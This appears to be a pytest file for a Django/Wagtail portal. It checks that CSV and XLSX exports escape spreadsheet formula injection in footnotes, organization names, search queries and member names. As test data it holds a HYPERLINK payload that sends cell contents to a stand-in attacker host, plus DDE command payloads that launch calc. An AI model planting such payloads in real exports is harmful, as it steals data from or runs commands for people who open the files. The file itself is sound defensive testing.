"""Every CSV and XLSX the portal writes is safe to open in a spreadsheet: a cell whose text a
spreadsheet would run as a formula (=, +, -, @, tab, carriage return first) is made plain text
with a leading apostrophe (portal.exports), whoever wrote the text: a data release's footnote,
an organization's name, a visitor's search, a member's name in the site history."""

import csv
import datetime
import io

import pytest
from django.contrib.auth.models import Group, Permission
from openpyxl import load_workbook

from portal.exports import safe_cell, safe_comment
from tests.conftest import activate_totp, force_login_with_mfa
from tests.factories import MemberOrganizationFactory, UserFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://attacker.example/?d="&A1;"Open")'


@pytest.mark.parametrize(
    "value, expected",
    [
        (HOSTILE, "'" + HOSTILE),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        # Numbers, and text that only contains these characters later, are left alone.
        ("-2.5", "-2.5"),
        ("+3", "+3"),
        ("1e-3", "1e-3"),
        ("lactate = 2", "lactate = 2"),
        ("", ""),
        (-2.5, -2.5),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected
    assert safe_cell(safe_cell(value)) == expected  # escaping twice changes nothing more


def test_a_comment_line_is_safe_in_each_piece_a_spreadsheet_splits_it_into():
    assert safe_comment("# Releases: a.csv, =cmd, +2, b") == "# Releases: a.csv, '=cmd, +2, b"


def rows_of_csv(response):
    body = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode()
    return list(csv.reader(io.StringIO(body)))


def cells_of_xlsx(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    workbook = load_workbook(io.BytesIO(body), read_only=True)
    return [cell for row in workbook.active.iter_rows(values_only=True) for cell in row]


def assert_only_escaped(cells):
    """The hostile text is there, and only in its escaped form."""
    cells = [cell for cell in cells if isinstance(cell, str)]
    assert any(cell.lower().startswith("'" + HOSTILE[:11].lower()) for cell in cells), cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def user_with(*permissions):
    user = UserFactory()
    group = Group.objects.create(name=f"Readers {user.pk}")
    group.permissions.add(
        Permission.objects.get(content_type__app_label="wagtailadmin", codename="access_admin"),
        *(
            Permission.objects.get(content_type__app_label=app, codename=codename)
            for app, codename in permissions
        ),
    )
    user.groups.add(group)
    activate_totp(user)
    return user


def test_the_public_trend_csv_escapes_a_hostile_footnote(client, home_page):
    from tests.public_awareness.trends.helpers import import_rows, make_indicator, trend_page

    indicator = make_indicator("TEST_HOSTILE", unit="count")
    start = datetime.date(2025, 1, 5)
    import_rows(
        [
            {
                "indicator": indicator.code,
                "geography": "MA",
                "start": start,
                "end": start + datetime.timedelta(days=6),
                "value": 40,
                # One CSV cell of the release, quoted as the tidy format allows.
                "footnote": '"' + HOSTILE.replace('"', '""') + '"',
            }
        ]
    )
    page = trend_page(home_page, (indicator, "", True))
    response = client.get(f"{page.url}data/TEST_HOSTILE/csv/")
    lines = response.content.decode().splitlines()
    data = list(csv.reader(line for line in lines if not line.startswith("#")))
    assert_only_escaped([cell for row in data for cell in row])


def test_the_reach_reports_escape_a_hostile_organization_name(client):
    from tests.toolkits.test_reach_report import add_toolkit, record
    from toolkits.models import CareSetting, ToolkitIndexPage, ToolkitPage

    ToolkitPage.objects.filter(live=True).update(live=False)
    catalog = ToolkitIndexPage.objects.first()
    setting = CareSetting.objects.create(name="Hostile setting", slug="hostile-setting")
    organization = MemberOrganizationFactory(name=HOSTILE, slug="hostile")
    # The same name, not yet reached (the reach report lists those by name).
    unreached = MemberOrganizationFactory(name=HOSTILE + " ", slug="hostile-2")
    setting.organizations.set([organization, unreached])
    toolkit = add_toolkit(catalog, "Hostile bundle", [setting])
    record(toolkit, organization, (2025, 3), 2)
    force_login_with_mfa(client, user_with(("toolkits", "view_downloadevent")))
    for report in ("/admin/reports/toolkit-downloads/", "/admin/reports/toolkit-reach/"):
        assert_only_escaped(
            [c for row in rows_of_csv(client.get(report + "?export=csv")) for c in row]
        )
        assert_only_escaped(cells_of_xlsx(client.get(report + "?export=xlsx")))


def test_the_search_query_report_escapes_a_stored_query(client):
    """A visitor's query is stored normalized today (no "=" survives), but the export must
    not depend on that: a query stored as typed is escaped too."""
    from wagtail.contrib.search_promotions.models import Query

    client.get("/search/", {"q": HOSTILE})
    Query.objects.create(query_string=HOSTILE).add_hit()
    force_login_with_mfa(client, user_with(("search", "view_zeroresulthits")))
    report = "/admin/reports/search-queries/"
    assert_only_escaped([c for row in rows_of_csv(client.get(report + "?export=csv")) for c in row])
    assert_only_escaped(cells_of_xlsx(client.get(report + "?export=xlsx")))


def test_wagtails_site_history_export_escapes_names_members_chose(client, superuser):
    """Wagtail's own exports are escaped on their way out of the admin: a member who names
    a draft, or themselves, with a formula is listed as plain text."""
    from tests.workgroups.conftest import make_group
    from workgroups import membership
    from workgroups.models import DraftToolPage, Membership, WorkGroupIndexPage

    group = make_group(WorkGroupIndexPage.objects.first(), "Hostile Names", "hostile-names")
    member = UserFactory(first_name=HOSTILE, last_name="")
    membership.add_member(group, member, Membership.Role.MEMBER, actor=superuser)
    draft = DraftToolPage(title=HOSTILE, slug="hostile-draft", live=False, owner=member)
    group.space.add_child(instance=draft)
    draft.save_revision(user=member, log_action=True)
    force_login_with_mfa(client, superuser)
    report = "/admin/reports/site-history/"
    cells = [c for row in rows_of_csv(client.get(report + "?export=csv")) for c in row]
    assert cells.count("'" + HOSTILE) >= 2  # the draft's title, and its author's name
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
